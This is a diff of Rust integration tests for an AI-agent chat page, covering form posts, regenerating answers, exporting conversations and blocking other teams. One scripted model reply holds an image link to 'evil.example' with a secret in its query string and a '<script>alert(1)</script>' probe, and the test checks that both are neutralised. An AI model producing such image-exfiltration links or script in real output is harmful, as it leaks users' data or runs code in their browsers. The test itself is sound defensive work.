@@ -10,7 +10,7 @@ use crate::engine_helpers::fake;
 use crate::helpers::{TestApp, spawn_app_with};
 use crate::rest::{key as new_key, send};
 
-async fn agent(app: &TestApp, key: &str, spec: Value) -> String {
+pub async fn agent(app: &TestApp, key: &str, spec: Value) -> String {
     let (status, created, _) = send(
         app,
         Method::POST,
@@ -484,4 +484,195 @@ async fn an_agent_answers_on_the_gateway_as_a_model_whole_and_streamed() {
         Some(json!({ "model": "agent:support-bot", "messages": [{ "role": "assistant", "content": "Hi" }] }))).await;
     assert!(status.is_client_error(), "{status} {refused}");
     assert!(refused.to_string().contains("last message"), "{refused}");
+}
+
+/// Posts a form as a browser without JavaScript does, from `page`; returns where the
+/// answer sends it (the page again, or the page the post opened).
+pub async fn plain_post(app: &TestApp, page: &str, action: &str, form: &[(&str, &str)]) -> String {
+    let response = app
+        .http
+        .post(app.url(action))
+        .header("accept", "text/html")
+        .header("origin", app.url(""))
+        .header("referer", app.url(page))
+        .form(form)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 302, "{action}");
+    let location = response.headers()["location"].to_str().unwrap();
+    location.trim_start_matches(&app.url("")).to_owned()
+}
+
+#[tokio::test]
+async fn the_chat_page_shows_answers_safely_regenerates_them_and_exports_the_conversation() {
+    let llm = fake().await;
+    let app = spawn_app_with(&[("DEMO_LLM_BASE_URL", &llm.base_url())]).await;
+    app.sign_in_demo().await;
+    let key = new_key(&app, &["read", "run", "admin"]).await;
+    let id = agent(
+        &app,
+        &key,
+        json!({ "name": "Page chat", "instructions": "Help." }),
+    )
+    .await;
+    let chat = format!("/agents/{id}/chat");
+
+    // A refused first message comes back to the page with its error and starts nothing.
+    let back = plain_post(
+        &app,
+        &chat,
+        "/api/chat/start",
+        &[("agent_id", &id), ("content", "   ")],
+    )
+    .await;
+    assert!(back.starts_with(&format!("{chat}?")), "{back}");
+    let page = app.get(&back).await.text().await.unwrap();
+    assert!(page.contains("Write a message."), "{page}");
+    let (_, listed, _) = send(
+        &app,
+        Method::GET,
+        &format!("/v1/agents/{id}/conversations"),
+        &key,
+        None,
+    )
+    .await;
+    assert_eq!(listed["conversations"], json!([]), "{listed}");
+
+    // The form opens the new conversation at its own address.
+    llm.script(fake_llm::Behaviour::Reply {
+        text: "See ![the chart](https://evil.example/?q=secret) and **this** <script>alert(1)</script>"
+            .into(),
+    });
+    let opened = plain_post(
+        &app,
+        &chat,
+        "/api/chat/start",
+        &[("agent_id", &id), ("content", "<b>Show me</b> the chart")],
+    )
+    .await;
+    let conversation = opened.strip_prefix(&format!("{chat}/")).unwrap().to_owned();
+    let answered = wait_until_answered(&app, &key, &conversation).await;
+    let first_run = answered["messages"][1]["run_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+
+    let page = app.get(&opened).await.text().await.unwrap();
+    // The person's message is text; the answer is Markdown, its image only a link (a
+    // browser would fetch an image at once, carrying the query away), raw HTML text.
+    assert!(
+        page.contains("&lt;b&gt;Show me&lt;/b&gt; the chart"),
+        "{page}"
+    );
+    assert!(
+        page.contains(r#"<a href="https://evil.example/?q=secret">the chart</a>"#),
+        "{page}"
+    );
+    assert!(!page.contains(r#"src="https://evil.example"#), "{page}");
+    assert!(page.contains("<strong>this</strong>"), "{page}");
+    assert!(
+        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+        "{page}"
+    );
+    // The turn's steps fold under the answer; its run is a link away.
+    assert!(page.contains(r#"data-testid="turn-steps""#), "{page}");
+    assert!(page.contains(&format!("/runs/{first_run}")), "{page}");
+    assert!(page.contains("Regenerate"), "{page}");
+
+    // Regenerating answers the same message again with a new run, in the answer's place.
+    llm.script(fake_llm::Behaviour::Reply {
+        text: "A better answer".into(),
+    });
+    let (status, turn, _) = send(
+        &app,
+        Method::POST,
+        &format!("/v1/conversations/{conversation}/regenerate?wait=true"),
+        &key,
+        None,
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{turn}");
+    assert_eq!(turn["answer"]["content"], "A better answer", "{turn}");
+    assert_eq!(turn["message"]["seq"], 1, "{turn}");
+    assert_ne!(turn["run_id"], first_run.as_str());
+    let (_, messages, _) = send(
+        &app,
+        Method::GET,
+        &format!("/v1/conversations/{conversation}/messages"),
+        &key,
+        None,
+    )
+    .await;
+    let contents: Vec<&str> = messages["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| m["content"].as_str().unwrap())
+        .collect();
+    assert_eq!(contents, ["<b>Show me</b> the chart", "A better answer"]);
+    // The dropped answer's run stays, with its cost.
+    let (status, old, _) = send(
+        &app,
+        Method::GET,
+        &format!("/v1/runs/{first_run}"),
+        &key,
+        None,
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{old}");
+    assert_eq!(old["status"], "succeeded");
+
+    // The export is the whole conversation, as a download.
+    let export = app
+        .get(&format!("/conversations/{conversation}/export"))
+        .await;
+    assert_eq!(export.status(), 200);
+    assert!(
+        export.headers()["content-disposition"]
+            .to_str()
+            .unwrap()
+            .starts_with("attachment"),
+    );
+    let export: Value = export.json().await.unwrap();
+    assert_eq!(export["conversation"]["id"], conversation.as_str());
+    assert_eq!(export["messages"].as_array().unwrap().len(), 2, "{export}");
+
+    // Another team sees neither the page nor the export.
+    let (other, _) = app.signed_up("Other Team Person").await;
+    assert_eq!(other.get(&opened).await.status(), 404);
+    assert_eq!(
+        other
+            .get(&format!("/conversations/{conversation}/export"))
+            .await
+            .status(),
+        404
+    );
+}
+
+/// The conversation's messages once its turn has ended.
+async fn wait_until_answered(app: &TestApp, key: &str, conversation: &str) -> Value {
+    for _ in 0..300 {
+        let (_, got, _) = send(
+            app,
+            Method::GET,
+            &format!("/v1/conversations/{conversation}"),
+            key,
+            None,
+        )
+        .await;
+        if got["answering"] == false {
+            let (_, messages, _) = send(
+                app,
+                Method::GET,
+                &format!("/v1/conversations/{conversation}/messages"),
+                key,
+                None,
+            )
+            .await;
+            return messages;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    panic!("the turn did not end");
 }
